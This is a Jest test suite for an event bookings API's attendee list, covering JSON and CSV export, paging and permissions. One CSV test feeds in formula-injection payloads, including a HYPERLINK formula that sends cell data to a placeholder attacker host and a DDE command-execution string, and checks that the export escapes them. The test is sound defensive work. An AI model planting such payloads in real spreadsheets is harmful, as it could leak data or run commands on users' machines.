import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import type { Page } from '#http';
import { newId } from '#kernel';
import type { AttendeeDocument } from '../../attendees/attendees.schema.js';
import { BookingsApp, guest, type GuestBooking, NOBODY } from '../testing/bookings-app.js';
import { GuestList } from './guest-list.js';
import type { GuestResource } from './guest-list.dto.js';

type Row = Record<string, string>;

const CSV = { accept: 'text/csv' };

let app: BookingsApp;
let eventId: string;
let path: string;

beforeAll(async () => {
  app = await BookingsApp.start();
}, 60_000);
afterAll(() => app.close());
beforeEach(async () => {
  eventId = await app.createEvent();
  path = `/v1/events/${eventId}/attendees`;
});

const page = async (query = ''): Promise<Page<GuestResource>> =>
  (await app.send('get', path + query, app.ada.headers).expect(200)).body as Page<GuestResource>;
const rowsOf = (csv: string): Row[] => parse(csv, { columns: true, bom: true });
const rows = async (query = ''): Promise<Row[]> =>
  rowsOf((await app.send('get', path + query, { ...app.ada.headers, ...CSV }).expect(200)).text);
const remove = ({ attendee, by }: GuestBooking) => app.send('delete', `/v1/attendees/${attendee.id}`, by).expect(204);

describe('the guest list', () => {
  it('tells who has booked, how to reach them, and what they have booked', async () => {
    const person = {
      name: 'Zoë Müller',
      email: 'Zoe@example.com',
      phone: '+49 30 901820',
      country: 'de',
      notes: 'vegan',
    };
    const { id, attendee, code, created_at } = await app.bookGuest(eventId, { attendee: person, seats: 3 });
    const booking = { id, seats: 3, status: 'confirmed', code, created_at };
    expect(await page()).toEqual({
      data: [{ ...person, country: 'DE', id: attendee.id, booking }],
      next_cursor: null,
    });
    await app.checkIn({ id }).expect(200);
    const came = { ...booking, status: 'checked_in', checked_in_at: expect.any(String) };
    expect((await page()).data).toMatchObject([{ booking: came }]);
  });

  it('is in the order of booking, of live bookings, or of those of one status', async () => {
    await app.patchEvent(eventId, { max_attendees: 2 }).expect(200);
    const [first, second] = [await app.bookGuest(eventId), await app.bookGuest(eventId)];
    const [third, fourth] = (await app.waitlist(eventId, 2, 1)) as [GuestBooking, GuestBooking];
    await app.cancel(third, third.by).expect(200);
    await app.checkIn(second).expect(200);
    const ids = async (query: string) => (await page(query)).data.map(({ booking }) => booking.id);
    expect(await ids('')).toEqual([first.id, second.id, fourth.id]);
    expect(await ids('?status=confirmed')).toEqual([first.id]);
    expect(await ids('?status=checked_in')).toEqual([second.id]);
    expect(await ids('?status=waitlisted')).toEqual([fourth.id]);
    expect(await ids('?status=canceled')).toEqual([third.id]);
    expect((await rows('?status=canceled')).map(({ booking_id }) => booking_id)).toEqual([third.id]);
    await app.send('get', `${path}?status=gone`, app.ada.headers).expect(400);
  });

  it('has pages', async () => {
    const booked: string[] = [];
    for (let count = 0; count < 5; count += 1) booked.push((await app.bookGuest(eventId)).id);
    const seen: string[] = [];
    for (let cursor: string | null = ''; cursor !== null;) {
      const answer = await app.send('get', `${path}?limit=2${cursor && `&cursor=${cursor}`}`, app.ada.headers);
      const { data, next_cursor } = answer.body as Page<GuestResource>;
      seen.push(...data.map(({ booking }) => booking.id));
      expect(answer.headers['link'] !== undefined).toBe(next_cursor !== null);
      cursor = next_cursor;
    }
    expect(seen).toEqual(booked);
  });

  it('names nobody who has been removed', async () => {
    const came = await app.bookGuest(eventId, { attendee: guest({ phone: '030 901820', notes: 'vegan' }) });
    await app.checkIn(came).expect(200);
    await remove(came);
    const nobody = { name: null, email: null, phone: null, country: null, notes: null };
    expect((await page()).data).toMatchObject([{ id: came.attendee.id, ...nobody, booking: { id: came.id } }]);
    const blank = { name: '', email: '', phone: '', country: '', notes: '' };
    expect(await rows()).toMatchObject([{ ...blank, booking_id: came.id, status: 'checked_in' }]);
  });

  it.each([NOBODY, CSV])('is for the creator of the event and admins (%j)', async (form) => {
    const booked = await app.bookGuest(eventId);
    const missing = `/v1/events/${newId()}/attendees`;
    for (const { headers } of [app.ada, app.admin]) {
      await app.send('get', path, { ...headers, ...form }).expect(200);
      await app.send('get', missing, { ...headers, ...form }).expect(404);
    }
    await app.send('get', path, { ...app.bob.headers, ...form }).expect(403);
    await app.send('get', missing, { ...app.bob.headers, ...form }).expect(404);
    for (const by of [NOBODY, booked.by])
      for (const address of [path, missing]) await app.send('get', address, { ...by, ...form }).expect(401);
    const refused = await app.send('get', path, { ...app.bob.headers, ...form });
    expect(refused.headers['content-type']).toBe('application/problem+json');
    expect(refused.text).not.toContain('Grace');
  });
});

describe('the form of the guest list', () => {
  it('is JSON, unless CSV is asked for', async () => {
    const forms = async (accept: string) => {
      const { status, headers } = await app.send('get', path, { ...app.ada.headers, accept });
      expect(headers['vary']).toBe('Origin, Accept');
      return [status, headers['content-type']];
    };
    expect(await forms('*/*')).toEqual([200, 'application/json; charset=utf-8']);
    expect(await forms('text/csv;q=0.4, application/json')).toEqual([200, 'application/json; charset=utf-8']);
    expect(await forms('text/csv, */*;q=0.1')).toEqual([200, 'text/csv; charset=utf-8; header=present']);
    expect(await forms('image/png')).toEqual([406, 'application/problem+json']);
  });

  it('as CSV, is a file for a spreadsheet, and for no cache', async () => {
    const { headers, text } = await app.send('get', path, { ...app.ada.headers, ...CSV }).expect(200);
    expect(headers).toMatchObject({
      'content-disposition': `attachment; filename="attendees-${eventId}.csv"`,
      'cache-control': 'no-store',
    });
    expect(headers['link']).toBeUndefined();
    const names = 'name,seats,status,code,email,phone,country,notes,booked_at,checked_in_at,booking_id,attendee_id';
    expect(text).toBe(`\ufeff${names}\r\n`);
  });

  it('is both in the OpenAPI document', async () => {
    const { body } = await app.service.http.get('/openapi.json');
    const responses = (body as OpenApi).paths['/v1/events/{id}/attendees']?.get.responses ?? {};
    expect(Object.keys(responses['200']?.content ?? {})).toEqual(['application/json', 'text/csv']);
    expect(Object.keys(responses)).toEqual(expect.arrayContaining(['401', '403', '404', '406']));
    expect(JSON.stringify(body)).not.toContain('x-usher');
  });
  interface OpenApi {
    paths: Record<string, { get: { responses: Record<string, { content: object }> } } | undefined>;
  }
});

describe('CSV', () => {
  it('says what was said, and nothing that a spreadsheet would evaluate', async () => {
    const hostile = [
      { name: '=HYPERLINK("http://evil.test/"&A1;"Zoë")', phone: '+49-30-901820', notes: '@SUM(1+1)\r\n-2+3' },
      { name: '＝1+1', phone: '(030) 901820', notes: 'Said "no", twice;\n\n=cmd|\' /C calc\'!A0' },
      { name: "\u00a0=1+1 𝒵 日本, '", notes: '\t=1' },
      { name: "Lotte 't Hooft", notes: 'wheelchair,\r\nramp' },
    ];
    for (const person of hostile) await app.bookGuest(eventId, { attendee: guest(person) });
    const { text } = await app.send('get', path, { ...app.ada.headers, ...CSV }).expect(200);
    expect(rowsOf(text).map(({ name, phone, notes }) => [name, phone, notes])).toEqual([
      [`'=HYPERLINK("http://evil.test/"&A1;"Zoë")`, "'+49-30-901820", "'@SUM(1+1)\r\n'-2+3"],
      ["'＝1+1", '(030) 901820', "Said \"no\", twice;\n\n'=cmd|' /C calc'!A0"],
      ["'\u00a0=1+1 𝒵 日本, '", '', "'\t'=1"],
      ["Lotte 't Hooft", '', 'wheelchair,\r\nramp'],
    ]);
    expect(await page()).toMatchObject({ data: hostile });
  });

  it('has everybody, and is read from the database as it is written', async () => {
    const count = 5_000;
    const template = await app.bookGuest(eventId);
    const [booking, attendee] = [
      await app.bookings.findOne({ _id: template.id }),
      await attendees().findOne({ _id: template.attendee.id }),
    ];
    if (booking === null || attendee === null) throw new Error('Nobody has booked.');
    const ids = Array.from({ length: count }, () => newId());
    await attendees().insertMany(ids.map((id, n) => ({ ...attendee, _id: id, name: `Guest ${n}` })));
    const copies = ids.map((id) => ({ ...booking, _id: id, attendee_id: id, email_key: id, created_at: new Date() }));
    await app.bookings.insertMany(copies);

    const all = await rows();
    expect(all.map(({ booking_id }) => booking_id)).toEqual([template.id, ...ids]);
    expect(all.at(-1)).toMatchObject({ name: `Guest ${count - 1}`, attendee_id: ids.at(-1) });

    const session = { roles: ['user' as const], scopes: [], expiresAt: new Date(), tokenId: newId() };
    const principal = { ...app.ada.user, ...session };
    const stream = await app.service.app.get(GuestList, { strict: false }).csv(eventId, {}, principal);
    const chunks = stream[Symbol.asyncIterator]();
    await chunks.next();
    await app.bookings.deleteMany({ 'event.id': eventId });
    let read = 0;
    for (let chunk = await chunks.next(); chunk.done !== true; chunk = await chunks.next())
      read += String(chunk.value).split('\r\n').length - 1;
    expect(read).toBeGreaterThan(0);
    expect(read).toBeLessThan(count / 2);
  });
  const attendees = () => app.connection.collection<AttendeeDocument>('attendees');
});
